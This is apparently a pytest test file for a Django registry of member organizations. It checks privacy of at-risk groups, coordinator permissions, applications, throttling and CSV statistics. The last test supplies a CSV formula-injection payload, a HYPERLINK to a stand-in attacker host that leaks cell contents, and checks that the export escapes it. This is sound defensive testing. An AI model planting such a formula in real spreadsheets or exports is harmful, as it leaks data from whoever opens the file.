"""The registry's pages: what the public sees, what coordinators may change, and their cost."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.conf import settings
from django.core import mail
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone

from alyansa.accounts.models import User
from alyansa.accounts.permissions import has_role
from alyansa.accounts.roles import Role
from alyansa.accounts.testing import make_user
from alyansa.audit.models import AuditEvent
from alyansa.members import throttle
from alyansa.members.models import Application, Chapter, MembershipStatus, Organization
from alyansa.members.services import (
    Profile,
    application_confirm,
    application_submit,
    membership_admit,
    organization_update,
)
from alyansa.members.testing import (
    make_country,
    make_language,
    make_organization,
    make_person,
    make_sector,
)
from bench.phone_weight import page_weight
from conftest import client_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def coordinator(db):  # type: ignore[no-untyped-def]
    """Cora coordinates her own organization, and nothing else."""
    org = make_organization("Cora's Organization", acronym="CORA")
    return make_user("Cora Coordinator", role=Role.COORDINATOR, scope=org), org


def _many(n: int) -> None:
    sector, language = make_sector(), make_language("tl")
    nationality = make_country("ID")
    for i in range(n):
        org = make_organization(f"Organization {i:03}", city="Hong Kong")
        org.sectors.add(sector)
        org.languages.add(language)
        org.nationalities.add(nationality)


def test_directory_query_count_does_not_grow_with_the_number_of_organizations(
    django_assert_max_num_queries,
):
    _many(5)
    client = client_for(None)
    with django_assert_max_num_queries(14) as small:
        client.get(reverse("members:directory"))
    _many(60)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(reverse("members:directory"))
    assert response.status_code == 200


def test_directory_and_organization_page_are_small_on_the_wire():
    _many(60)
    client = client_for(None)
    for url in (
        reverse("members:directory"),
        reverse("members:organization", args=[Organization.objects.first().slug]),
    ):
        weight = page_weight(client.get(url).content)  # with what the page loads
        assert "site.css" in weight.assets, url
        assert weight.total < 30_000, f"{url}: {weight.describe()}"


def test_organization_page_query_count_is_bounded(django_assert_max_num_queries):
    org = make_organization("Counted", city="Doha")
    client = client_for(None)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("members:organization", args=[org.slug]))
    assert response.status_code == 200


def test_an_organization_at_risk_is_left_out_of_the_directory_and_its_address_is_unknown(
    secretariat,
):
    make_organization("Listed Union")
    hidden = make_organization("Hidden Union", acronym="HU", at_risk=True)
    response = client_for(None).get(reverse("members:directory"))
    assert b"Listed Union" in response.content
    assert b"Hidden Union" not in response.content
    assert hidden.slug != "hu"  # a random address, not its acronym
    unknown = client_for(None).get(reverse("members:organization", args=["never-taken"]))
    for address in [hidden.slug, "hu"]:
        page = client_for(None).get(reverse("members:organization", args=[address]))
        assert (page.status_code, page.content) == (404, unknown.content)
    page = client_for(secretariat).get(reverse("members:organization", args=[hidden.slug]))
    assert page.status_code == 200
    assert b'<meta name="robots" content="noindex' in page.content


def test_an_organization_marked_at_risk_later_moves_to_a_random_address(secretariat):
    org = make_organization("Later Union", acronym="LU")
    assert org.slug == "lu"
    organization_update(organization=org, changes={"at_risk": True}, acting_user=secretariat)
    assert org.slug.startswith("o-") and len(org.slug) == 22
    unknown = client_for(None).get("/api/v1/members/organizations/never-taken")
    for address in ["lu", org.slug]:
        page = client_for(None).get(reverse("members:organization", args=[address]))
        assert page.status_code == 404
        api = client_for(None).get(f"/api/v1/members/organizations/{address}")
        assert (api.status_code, api.content) == (404, unknown.content)


def test_the_directory_shows_only_the_fields_an_organization_made_public():
    make_organization("Private City Union", city="Secretville", public_fields=["sectors"])
    response = client_for(None).get(reverse("members:directory"))
    assert b"Private City Union" in response.content
    assert b"Secretville" not in response.content


def test_filtering_by_a_hidden_field_does_not_reveal_the_organization():
    sector = make_sector()
    shows = make_organization("Shows Sectors")
    hides = make_organization("Hides Sectors", public_fields=["city"])
    shows.sectors.add(sector)
    hides.sectors.add(sector)
    response = client_for(None).get(reverse("members:directory"), {"sector": sector.pk})
    assert b"Shows Sectors" in response.content
    assert b"Hides Sectors" not in response.content


def test_the_directory_speaks_the_visitors_language():
    make_organization("Union of the Philippines", country=make_country("PH"))
    client = client_for(None)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "es"
    response = client.get(reverse("members:directory"))
    assert "Filipinas" in response.content.decode()


def test_an_applicant_that_is_not_yet_admitted_has_no_public_page():
    org = make_organization("Applicant", member_since=None)
    assert client_for(None).get(reverse("members:organization", args=[org.slug])).status_code == 404


def test_coordinator_edits_own_profile_and_the_change_is_audited(coordinator):
    user, org = coordinator
    response = client_for(user).post(
        reverse("members:organization_edit", args=[org.slug]),
        {
            "name": org.name,
            "acronym": "CORA",
            "country": org.country.pk,
            "city": "Dubai",
            "public_fields": ["city"],
            "description_en": "We organize domestic workers.",
        },
    )
    assert response.status_code == 302
    org.refresh_from_db()
    assert org.city == "Dubai"
    event = AuditEvent.objects.for_object(org).get(action="organization.update")
    assert event.actor == user and event.changes["city"] == ["", "Dubai"]


def test_coordinator_cannot_edit_another_organization(coordinator):
    user, _own = coordinator
    other = make_organization("Someone Else's", city="Riyadh")
    client = client_for(user)
    url = reverse("members:organization_edit", args=[other.slug])
    assert client.get(url).status_code == 404
    assert client.post(url, {"name": "Taken over", "country": other.country.pk}).status_code == 404
    other.refresh_from_db()
    assert other.name == "Someone Else's"


def test_coordinator_cannot_read_another_organizations_people(coordinator):
    user, _own = coordinator
    other = make_organization("Another")
    person = make_person("Hidden Person", organization=other, contact="+971 50 000 0000")
    client = client_for(user)
    assert client.get(reverse("members:organization_manage", args=[other.slug])).status_code == 404
    assert client.get(reverse("members:person_export", args=[person.pk])).status_code == 404


def test_contacts_are_never_on_public_pages(coordinator):
    _user, org = coordinator
    make_person("Visible Name", organization=org, contact="secret-contact@example.org")
    for url in (reverse("members:directory"), reverse("members:organization", args=[org.slug])):
        assert b"secret-contact" not in client_for(None).get(url).content


def _application_data(**extra):  # type: ignore[no-untyped-def]
    country = make_country("PH")
    return {
        "name": "Samahan ng mga Manggagawa",
        "acronym": "SAMA",
        "country": country.pk,
        "city": "Hong Kong",
        "public_fields": ["city", "description"],
        "description_tl": "Samahan ng mga migrante.",
        "contact_name": "Ana",
        "contact_email": "ana@example.org",
        "category": "full",
        **extra,
    }


def test_the_application_form_names_every_bad_field():
    response = client_for(None).post(
        reverse("members:apply"),
        {"name": "", "country": "", "contact_email": "not-an-address", "website": "nope nope"},
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert {"name", "country", "contact_email", "contact_name", "website"} <= set(errors)
    assert b"Please correct the fields marked below." in response.content


def test_an_application_is_confirmed_by_email_then_admitted_and_its_contact_coordinates(
    secretariat,
):
    client = client_for(None)
    assert client.post(reverse("members:apply"), _application_data()).status_code == 302
    org = Organization.objects.get(name="Samahan ng mga Manggagawa")
    # Unconfirmed: not yet in the queue.
    queue = client_for(secretariat).get(reverse("members:review_queue"))
    assert b"Samahan" not in queue.content
    link = re.search(r"https?://\S+/apply/confirm/\S+/", mail.outbox[-1].body).group(0)
    path = link.split("://", 1)[1].split("/", 1)[1]
    client.post("/" + path)
    queue = client_for(secretariat).get(reverse("members:review_queue"))
    assert b"Samahan" in queue.content
    application = Application.objects.get(organization=org)
    response = client_for(secretariat).post(
        reverse("members:application_decide", args=[application.pk]),
        {
            "decision": "admit",
            "decided_by": "International Coordinating Body",
            "date": timezone.localdate().isoformat(),
        },
    )
    assert response.status_code == 302
    org.membership.refresh_from_db()
    assert org.membership.status == MembershipStatus.ADMITTED
    user = User.objects.get(email="ana@example.org")
    assert has_role(user, Role.COORDINATOR, scope=org)
    assert "/accounts/password/reset/key/" in mail.outbox[-1].body


def test_an_unknown_confirmation_link_is_not_found():
    response = client_for(None).post(reverse("members:apply_confirm", args=["nope"]))
    assert response.status_code == 404


def test_statistics_csv_and_chart_answer_for_a_date(secretariat):
    make_organization(member_since=datetime.date(2019, 1, 1))
    make_organization(member_since=datetime.date(2023, 1, 1))
    client = client_for(secretariat)
    page = client.get(reverse("members:statistics"), {"on": "2020-01-01"})
    assert page.context["counts"].total == 1
    csv_text = client.get(reverse("members:statistics_csv"), {"on": "2024-01-01"}).content
    assert b"members_on,2024-01-01,2" in csv_text
    svg = client.get(reverse("members:growth_svg"), {"start": "2018-01-01", "end": "2024-01-01"})
    assert svg["Content-Type"].startswith("image/svg+xml")
    assert b"<polyline" in svg.content and b"<script" not in svg.content


def test_pages_have_no_inline_script_or_style(coordinator):
    user, org = coordinator
    client = client_for(user)
    for url in (
        reverse("members:directory"),
        reverse("members:organization", args=[org.slug]),
        reverse("members:organization_edit", args=[org.slug]),
        reverse("members:apply"),
    ):
        html = client.get(url).content.decode()
        assert "<script>" not in html and 'style="' not in html, url


def test_a_flood_of_applications_from_one_network_is_held_off():
    cache.clear()
    client = client_for(None)
    for number in range(throttle.APPLICATIONS_PER_HOUR):
        data = _application_data(name=f"Flood {number}", contact_email=f"f{number}@example.org")
        assert client.post(reverse("members:apply"), data).status_code == 302
    response = client.post(reverse("members:apply"), _application_data(name="One too many"))
    assert response.status_code == 200
    assert "Too many applications" in response.content.decode()
    cache.clear()


def test_the_secretariat_forms_a_chapter_that_can_then_issue_in_its_own_name(secretariat):
    a, b = make_organization("Member A"), make_organization("Member B")
    response = client_for(secretariat).post(
        reverse("members:chapter_new"),
        {
            "name": "Chapter of the Philippines",
            "kind": "national",
            "region": a.region.pk,
            "country": a.country.pk,
            "organizations": [a.pk, b.pk],
        },
    )
    assert response.status_code == 302
    chapter = Chapter.objects.get(name="Chapter of the Philippines")
    assert set(chapter.organizations.all()) == {a, b}
    page = client_for(None).get(reverse("members:chapter", args=[chapter.slug]))
    assert b"Member A" in page.content


def test_a_national_chapter_needs_its_country(secretariat):
    a = make_organization("Member A")
    response = client_for(secretariat).post(
        reverse("members:chapter_new"),
        {"name": "Countryless", "kind": "national", "region": a.region.pk},
    )
    assert response.status_code == 200
    assert "needs its country" in response.content.decode()


def test_the_secretariat_changes_a_category_on_the_manage_page(secretariat):
    org = make_organization("Changing", member_since=datetime.date(2020, 1, 1))
    client = client_for(secretariat)
    url = reverse("members:membership_step", args=[org.slug])
    client.post(url, {"status": "category", "decided_by": "ICB", "date": "2024-01-01"})
    org.membership.refresh_from_db()
    assert org.membership.category == "full"  # no category chosen: refused, with a message
    client.post(
        url,
        {"status": "category", "category": "associate", "decided_by": "ICB", "date": "2024-01-01"},
    )
    org.membership.refresh_from_db()
    assert org.membership.category == "associate"


def test_the_shared_coordinator_fixture_manages_only_its_organization(
    coordinator_of, member_organization
):
    client = client_for(coordinator_of)
    own = reverse("members:organization_manage", args=[member_organization.slug])
    assert client.get(own).status_code == 200
    other = make_organization("Not Cora's")
    assert client.get(reverse("members:organization_manage", args=[other.slug])).status_code == 404


def test_the_secretariat_appoints_a_coordinator_who_gets_a_link_to_sign_in(secretariat):
    org = make_organization("Imported Union")
    client = client_for(secretariat)
    manage = reverse("members:organization_manage", args=[org.slug])
    assert "No coordinator yet." in client.get(manage).content.decode()
    response = client.post(
        reverse("members:coordinator_add", args=[org.slug]),
        {"display_name": "Nina", "email": "Nina@Example.org"},
    )
    assert response.status_code == 302
    user = User.objects.get(email="nina@example.org")
    assert has_role(user, Role.COORDINATOR, scope=org)
    assert mail.outbox[-1].to == ["nina@example.org"]
    assert "/accounts/password/reset/key/" in mail.outbox[-1].body
    page = client.get(manage).content.decode()
    assert "nina@example.org" in page
    # Twice is refused with a message, not a second grant.
    again = client.post(
        reverse("members:coordinator_add", args=[org.slug]),
        {"display_name": "Nina", "email": "nina@example.org"},
        follow=True,
    )
    assert "already coordinates" in again.content.decode()
    client.post(reverse("members:coordinator_remove", args=[org.slug, user.pk]))
    assert not has_role(User.objects.get(pk=user.pk), Role.COORDINATOR, scope=org)
    trail = AuditEvent.objects.filter(object_id=str(user.pk), actor=secretariat)
    assert {"user.create", "role.grant", "role.revoke"} <= set(
        trail.values_list("action", flat=True)
    )


def test_an_existing_account_appointed_coordinator_is_told_to_sign_in(secretariat, plain_user):
    org = make_organization("Imported Union")
    client_for(secretariat).post(
        reverse("members:coordinator_add", args=[org.slug]),
        {"display_name": "Ignored", "email": plain_user.email},
    )
    assert has_role(plain_user, Role.COORDINATOR, scope=org)
    assert "Sign in with your account" in mail.outbox[-1].body
    plain_user.refresh_from_db()
    assert plain_user.display_name == "Pat Plain"


def test_a_coordinator_neither_sees_nor_changes_who_coordinates(coordinator):
    user, org = coordinator
    client = client_for(user)
    page = client.get(reverse("members:organization_manage", args=[org.slug])).content.decode()
    assert "Appoint a coordinator" not in page and user.email not in page
    response = client.post(
        reverse("members:coordinator_add", args=[org.slug]),
        {"display_name": "Friend", "email": "friend@example.org"},
    )
    assert response.status_code == 403
    assert not User.objects.filter(email="friend@example.org").exists()
    response = client.post(reverse("members:coordinator_remove", args=[org.slug, user.pk]))
    assert response.status_code == 403
    assert has_role(user, Role.COORDINATOR, scope=org)


def test_statistics_csv_guards_names_from_public_applications(secretariat):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    application, secret = application_submit(
        profile=Profile(name=formula, country=make_country("PH")),
        contact_name="Someone",
        contact_email="someone@example.org",
    )
    application_confirm(secret=secret)
    membership_admit(
        organization=application.organization,
        decided_by="Executive Committee",
        acting_user=secretariat,
    )
    admitted_on = application.organization.membership.status_since
    response = client_for(secretariat).get(
        reverse("members:statistics_csv"),
        {"start": admitted_on.isoformat(), "end": admitted_on.isoformat()},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    joined = [row for row in rows if row[0] == "joined"]
    assert [row[1] for row in joined] == ["'" + formula]
